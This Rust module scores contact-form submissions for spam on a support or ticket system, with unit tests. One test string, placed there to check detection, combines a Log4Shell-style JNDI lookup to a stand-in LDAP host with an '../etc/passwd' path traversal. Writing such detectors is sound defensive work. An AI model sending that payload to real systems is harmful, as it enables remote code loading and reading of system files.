//! What a message itself says for and against it. No database, no clock: the same message always has the same score.

use super::links::Links;
use super::{offers, text};

/// From so many points on a message is kept aside.
pub(in crate::tickets) const HELD_FROM: i64 = 60;
/// Nobody reads and fills in five fields in so many seconds, not even from a prepared text.
const TOO_FAST_SECONDS: i64 = 2;
/// Below this only few do, with everything prepared.
const FAST_SECONDS: i64 = 6;

/// What is judged.
#[derive(Debug, Clone, Copy)]
pub(in crate::tickets) struct Submission<'a> {
    pub(super) subject: &'a str,
    pub(super) name: &'a str,
    pub(super) message: &'a str,
    pub(super) has_code: bool,
    /// How long the page was open; `None` when no script told.
    pub(super) seconds: Option<i64>,
}

/// Points by what they are for; below zero they speak for the author.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::tickets) struct Score {
    pub(super) links: i64,
    pub(super) letters: i64,
    pub(super) wording: i64,
    pub(super) time: i64,
    pub(super) customer: i64,
}

impl Score {
    pub(in crate::tickets) fn sum(self) -> i64 {
        self.links + self.letters + self.wording + self.time + self.customer
    }
}

pub(in crate::tickets) fn score(of: &Submission<'_>) -> Score {
    let head = format!("{}\n{}", of.subject, of.name);
    let plain = text::plain(&format!("{}\n{}", of.subject, of.message));
    Score {
        links: links(&head, of.message),
        letters: letters(&head, of.message),
        wording: wording(&plain, &head, of.message),
        time: time(of.seconds),
        customer: customer(of.has_code, &plain),
    }
}

/// One link 10, four or more 20; what hides or leads away counts more; markup and links where none belong are enough by themselves.
fn links(head: &str, message: &str) -> i64 {
    let (in_head, body) = (Links::of(head), Links::of(message));
    let count = match body.count {
        0 => 0,
        1..=3 => 10,
        _ => 20,
    };
    let either = |which: fn(&Links) -> bool| which(&in_head) || which(&body);
    count
        + points(in_head.count > 0, 10)
        + points(either(|links| links.bbcode), 100)
        + points(either(|links| links.disguised), 60)
        + points(body.anchors > 1, 60)
        + points(body.short, 20)
        + points(body.conversation, 20)
        + points(body.program, 50)
        + points(body.share >= 40, 10)
}

/// Words that mix scripts, words pulled apart and random keys are not a customer's.
fn letters(head: &str, message: &str) -> i64 {
    let mixed = text::mixed_words(head) + text::mixed_words(message);
    points(mixed == 1, 40)
        + points(mixed > 1, 80)
        + points(text::is_spaced_out(head) || text::is_spaced_out(message), 60)
        + points(text::is_gibberish(message), 70)
}

/// An unmistakable wording 50, a pitch 35, bait 10 each up to 30; an attempt to get something run 60.
fn wording(plain: &str, head: &str, message: &str) -> i64 {
    let raw = format!("{head}\n{message}").to_lowercase();
    let probes = offers::PROBES.iter().any(|probe| raw.contains(probe));
    let count = |wordings: &[&str], each: i64, at_most: usize| each * i64::try_from(offers::count(plain, wordings).min(at_most)).unwrap_or_default();
    count(offers::STRONG, 50, 3) + count(offers::PITCH, 35, 3) + count(offers::BAIT, 10, 3) + points(probes, 60)
}

/// Without a script nothing is known: a little, never enough.
fn time(seconds: Option<i64>) -> i64 {
    match seconds {
        None => 10,
        Some(seconds) if is_too_fast(seconds) => HELD_FROM,
        Some(seconds) if seconds < FAST_SECONDS => 40,
        Some(_) => 0,
    }
}

/// A page that was open for no more than two seconds was not filled in by hand.
pub(super) fn is_too_fast(seconds: i64) -> bool {
    seconds <= TOO_FAST_SECONDS
}

/// A code of a purchase 30, words of somebody to whom something happened 25 each up to 50.
fn customer(has_code: bool, plain: &str) -> i64 {
    let told = i64::try_from(offers::count(plain, offers::CUSTOMER).min(2)).unwrap_or_default();
    -(points(has_code, 30) + 25 * told)
}

fn points(holds: bool, points: i64) -> i64 {
    if holds { points } else { 0 }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sum(subject: &str, message: &str, seconds: Option<i64>) -> i64 {
        score(&Submission { subject, name: "Maria", message, has_code: false, seconds }).sum()
    }

    #[test]
    fn what_creators_sell_and_customers_complain_about_is_let_through() {
        let kept = [
            ("Reembolso do robô", "Comprei um robô de forex que promete 10% ao dia e não funciona. Quero o reembolso.", None),
            ("SEO course", "The coupon for the SEO course was not applied, I paid the full price.", Some(40)),
            ("Mis enlaces", "Estos dan 404: https://a.example/1 https://a.example/2 https://a.example/3 https://a.example/4", Some(30)),
            ("É golpe?", "Recebi no WhatsApp que ganhei R$ 1.000, o link é http://premio.example/x . É de vocês?", None),
        ];
        for (subject, message, seconds) in kept {
            assert!(sum(subject, message, seconds) < HELD_FROM, "{subject}");
        }
    }

    #[test]
    fn each_sign_that_is_enough_by_itself_holds() {
        let held = [
            "[url=http://a.example]casino[/url]",
            "Сhеар раgеs fоr уоu",
            "mNbVcXyLkJhGfDsA",
            "${jndi:ldap://a.example/x} ../etc/passwd",
            "v i s i t   u s   r a n k f a s t [dot] example",
        ];
        for message in held {
            assert!(sum("Hello", message, Some(90)) >= HELD_FROM, "{message}");
        }
    }

    #[test]
    fn the_time_alone_holds_nobody_who_has_no_script() {
        assert!(sum("Duvida", "como falo com o dono do curso?", None) < HELD_FROM);
    }
}
